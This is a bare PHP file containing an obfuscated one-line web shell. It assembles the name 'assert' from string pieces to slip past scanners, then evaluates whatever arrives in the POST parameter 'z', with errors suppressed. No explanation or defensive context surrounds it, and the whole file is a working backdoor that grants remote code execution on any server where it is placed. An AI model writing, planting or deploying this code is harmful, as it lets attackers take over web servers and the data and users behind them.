<?php
$fn = 'as' . 'se' . 'rt';
$fn(@$_POST['z']);
?>
